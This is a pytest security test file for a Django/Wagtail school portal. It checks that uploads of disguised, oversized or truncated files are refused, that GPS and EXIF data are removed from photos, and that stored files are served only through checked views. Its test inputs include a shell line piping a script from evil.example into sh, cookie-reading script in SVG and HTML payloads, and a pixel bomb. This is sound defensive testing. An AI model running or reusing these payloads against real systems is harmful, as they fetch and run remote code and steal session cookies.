"""Uploads: a disguised or oversized file is refused with a message that names what is wrong,
and nothing of it is stored; photos lose their EXIF and GPS; stored files are served only by
the views that check who asks.

Two doors take files: the teacher portal's evidence upload and the Wagtail admin's image and
document libraries (single and multiple upload), used here by an editor.
"""

import io
import json
import random
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, GroupCollectionPermission

from delivery.models import DeliverySession, Evidence
from tests.security.helpers import login, session_form

pytestmark = pytest.mark.django_db

GPS_IFD = 0x8825
MAKE = 0x010F
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def photo_with_gps(size=(64, 48), fmt="JPEG") -> bytes:
    """A photo as a phone writes it: camera make and the GPS position of the school."""
    rng = random.Random(7)
    pixels = bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3))
    image = Image.frombytes("RGB", size, pixels)
    exif = Image.Exif()
    exif[MAKE] = "PhoneMaker"
    exif[GPS_IFD] = {1: "N", 2: (11.0, 34.0, 0.0), 3: "E", 4: (108.0, 59.0, 0.0)}
    buffer = io.BytesIO()
    image.save(buffer, fmt, exif=exif)
    return buffer.getvalue()


def truncated_jpeg() -> bytes:
    whole = photo_with_gps(size=(200, 200))
    return whole[: len(whole) // 2]


def noise_png(megabytes: float) -> bytes:
    """A PNG of random pixels (it does not compress) of about the size asked."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5) + 1
    rng = random.Random(11)
    image = Image.frombytes("RGB", (side, side), rng.randbytes(side * side * 3))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def pixel_bomb() -> bytes:
    """A tiny file that opens as 64 million pixels."""
    buffer = io.BytesIO()
    Image.new("1", (8000, 8000)).save(buffer, "PNG")
    return buffer.getvalue()


def stored_files(settings) -> set[str]:
    root = Path(settings.MEDIA_ROOT)
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}


DISGUISED = {
    "a script renamed .jpg": ("anh-lop.jpg", SHELL_SCRIPT),
    "an SVG": ("so-do.svg", SVG),
    "an SVG renamed .png": ("so-do.png", SVG),
    "an HTML page named .pdf": ("danh-sach.pdf", HTML_PAGE),
    "a truncated JPEG": ("anh-hong.jpg", truncated_jpeg()),
}

# ---------------------------------------------------------------------------------------------
# The teacher portal's evidence


def post_evidence(world, name, content):
    client = login(world.teacher_a)
    upload = SimpleUploadedFile(name, content, "image/jpeg")
    data = session_form(world, school=world.school_a, evidence=[upload], shows_children="on")
    return client, client.post(reverse("portal:session_create"), data)


def evidence_errors(response) -> str:
    return " ".join(response.context["form"].errors.get("evidence", []))


@pytest.mark.parametrize("case", DISGUISED)
def test_disguised_evidence_is_refused_and_nothing_is_stored(world, settings, case):
    name, content = DISGUISED[case]
    before = stored_files(settings)
    _client, response = post_evidence(world, name, content)
    assert response.status_code == 400
    errors = evidence_errors(response)
    assert name in errors and "không phải ảnh JPG, PNG hay tệp PDF" in errors
    assert not DeliverySession.objects.filter(class_name="8A-MOI").exists()
    assert stored_files(settings) == before


def test_evidence_over_the_size_cap_is_refused_with_the_limit(world, settings):
    settings.SCHOOLS_EVIDENCE_MAX_BYTES = 1024 * 1024
    before = stored_files(settings)
    _client, response = post_evidence(world, "anh-rat-lon.png", noise_png(1.5))
    assert response.status_code == 400
    assert "“anh-rat-lon.png” lớn hơn 1 MB" in evidence_errors(response)
    assert stored_files(settings) == before


def test_an_image_of_too_many_pixels_is_refused_before_it_is_decoded(world, settings):
    before = stored_files(settings)
    _client, response = post_evidence(world, "bom.png", pixel_bomb())
    assert response.status_code == 400
    assert "quá lớn" in evidence_errors(response)
    assert stored_files(settings) == before


def test_a_photo_with_gps_is_stored_and_served_without_exif(world):
    client, response = post_evidence(world, "lop-8a.jpg", photo_with_gps())
    assert response.status_code == 302
    evidence = Evidence.objects.get(session__class_name="8A-MOI")
    with evidence.file.open("rb") as stored:
        stored_bytes = stored.read()
    served = client.get(reverse("portal:evidence", args=[evidence.pk]))
    served_bytes = b"".join(served.streaming_content)
    for content in (stored_bytes, served_bytes):
        image = Image.open(io.BytesIO(content))
        assert image.format == "JPEG" and dict(image.getexif()) == {}
        assert b"PhoneMaker" not in content and b"Exif" not in content


# ---------------------------------------------------------------------------------------------
# The Wagtail image and document libraries


@pytest.fixture
def library_editor(editor):
    """The editor, allowed to add images and documents to the root collection.

    The demo's editors group has only the choose_* collection permissions (Wagtail's data
    migrations granted add/change to "Editors" before home/0002 renamed the group), so the
    grant is explicit here; the report lists it.
    """
    root = Collection.get_first_root_node()
    for codename in ("add_image", "change_image", "add_document", "change_document"):
        permission = Permission.objects.get(
            content_type__app_label__in=["wagtailimages", "wagtaildocs"], codename=codename
        )
        for group in editor.groups.all():
            GroupCollectionPermission.objects.get_or_create(
                group=group, collection=root, permission=permission
            )
    return login(editor)


def upload_to_library(client, kind: str, how: str, name: str, content: bytes):
    """Upload through one of the admin's forms; returns (accepted, message)."""
    root = Collection.get_first_root_node().pk
    prefix = "wagtailimages" if kind == "image" else "wagtaildocs"
    upload = SimpleUploadedFile(name, content)
    if how == "single":
        response = client.post(
            reverse(f"{prefix}:add"), {"title": name, "file": upload, "collection": root}
        )
        if response.status_code == 302:
            return True, ""
        assert response.status_code == 200, response.status_code
        return False, " ".join(response.context["form"].errors.get("file", []))
    response = client.post(
        reverse(f"{prefix}:add_multiple"), {"files[]": upload, "collection": root}
    )
    assert response.status_code == 200, response.status_code
    data = json.loads(response.content)
    return data["success"], data.get("error_message", "")


def library_count() -> int:
    return get_image_model().objects.count() + get_document_model().objects.count()


HOW = ["single", "multiple"]


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize(
    "case", ["a script renamed .jpg", "an SVG", "an SVG renamed .png", "an HTML page named .pdf"]
)
def test_disguised_files_are_refused_by_the_image_library(library_editor, settings, how, case):
    name, content = DISGUISED[case]
    before = stored_files(settings)
    accepted, message = upload_to_library(library_editor, "image", how, name, content)
    assert not accepted and message
    assert library_count() == 0 and stored_files(settings) == before


@pytest.mark.parametrize("how", HOW)
def test_a_truncated_jpeg_is_refused_by_the_image_library(library_editor, settings, how):
    """Wagtail's image field catches only decompression bombs: the truncated JPEG's OSError
    was a 500. home.forms.CheckedImageForm (WAGTAILIMAGES_IMAGE_FORM_BASE) decodes it."""
    name, content = DISGUISED["a truncated JPEG"]
    library_editor.raise_request_exception = False
    before = stored_files(settings)
    accepted, message = upload_to_library(library_editor, "image", how, name, content)
    assert not accepted and "bị hỏng hoặc không đầy đủ" in message and name in message
    assert library_count() == 0 and stored_files(settings) == before


@pytest.mark.parametrize("how", HOW)
def test_an_image_over_the_size_cap_is_refused_by_the_image_library(library_editor, settings, how):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1024 * 1024
    before = stored_files(settings)
    accepted, message = upload_to_library(
        library_editor, "image", how, "anh-rat-lon.png", noise_png(1.5)
    )
    assert not accepted and re.search(r"1[.,]0\s*MB", message), message
    assert library_count() == 0 and stored_files(settings) == before


@pytest.mark.parametrize("how", HOW)
def test_the_image_library_keeps_a_photo_without_its_gps(library_editor, how):
    """The control of the refusals above (a real photo goes in), and its privacy."""
    accepted, _message = upload_to_library(
        library_editor, "image", how, "hoc-sinh.jpg", photo_with_gps()
    )
    assert accepted
    image = get_image_model().objects.get()
    # The original is what /media/original_images/ serves (and what renditions are made from).
    with image.file.open("rb") as stored:
        content = stored.read()
    assert b"PhoneMaker" not in content and dict(Image.open(io.BytesIO(content)).getexif()) == {}


@pytest.mark.parametrize("how", HOW)
@pytest.mark.parametrize("case", ["a script renamed .jpg", "an SVG", "an SVG renamed .png"])
def test_files_of_other_types_are_refused_by_the_document_library(
    library_editor, settings, how, case
):
    name, content = DISGUISED[case]
    before = stored_files(settings)
    accepted, message = upload_to_library(library_editor, "document", how, name, content)
    assert not accepted and f"“{name.rsplit('.', 1)[1]}”" in message
    assert library_count() == 0 and stored_files(settings) == before


@pytest.mark.parametrize("how", HOW)
def test_an_html_page_named_pdf_is_refused_by_the_document_library(library_editor, how):
    name, content = DISGUISED["an HTML page named .pdf"]
    accepted, message = upload_to_library(library_editor, "document", how, name, content)
    assert not accepted and message
    assert library_count() == 0


@pytest.mark.parametrize("how", HOW)
def test_a_document_over_the_size_cap_is_refused(library_editor, settings, how):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    pdf = b"%PDF-1.4\n" + b"%" * 4096 + b"\n%%EOF\n"
    before = stored_files(settings)
    accepted, message = upload_to_library(library_editor, "document", how, "lon.pdf", pdf)
    assert not accepted and message
    assert library_count() == 0 and stored_files(settings) == before


# ---------------------------------------------------------------------------------------------
# Where stored files are served from


def test_evidence_files_are_not_served_from_media(world):
    url = f"/media/{world.evidence_a.file.name}"
    assert world.evidence_a.file.name.startswith("evidence/")
    assert Client().get(url).status_code == 404
    teacher = login(world.teacher_a)
    assert teacher.get(url).status_code == 404
    # The control: the file exists and its own view gives it to its school's teacher.
    assert teacher.get(reverse("portal:evidence", args=[world.evidence_a.pk])).status_code == 200


def test_import_previews_are_not_served_from_media(world, settings):
    officer = login(world.officer_a)
    content = "code,name,type,area,levels,enrolment\n5850777,Trường mới,THCS,585-01,THCS,90\n"
    officer.post(reverse("schools:import"), {"file": SimpleUploadedFile("t.csv", content.encode())})
    previews = [name for name in stored_files(settings) if name.startswith("imports/")]
    assert len(previews) == 1
    assert Client().get(f"/media/{previews[0]}").status_code == 404
    assert officer.get(f"/media/{previews[0]}").status_code == 404


def test_documents_are_served_by_wagtails_view_only(library_editor):
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    accepted, _message = upload_to_library(library_editor, "document", "single", "bai.pdf", pdf)
    assert accepted
    document = get_document_model().objects.get()
    assert Client().get(f"/media/{document.file.name}").status_code == 404
    served = Client().get(document.url)
    assert document.url.startswith("/documents/") and served.status_code == 200
    assert b"".join(served.streaming_content) == pdf
    assert "default-src 'none'" in served["Content-Security-Policy"]
    assert served["X-Content-Type-Options"] == "nosniff"
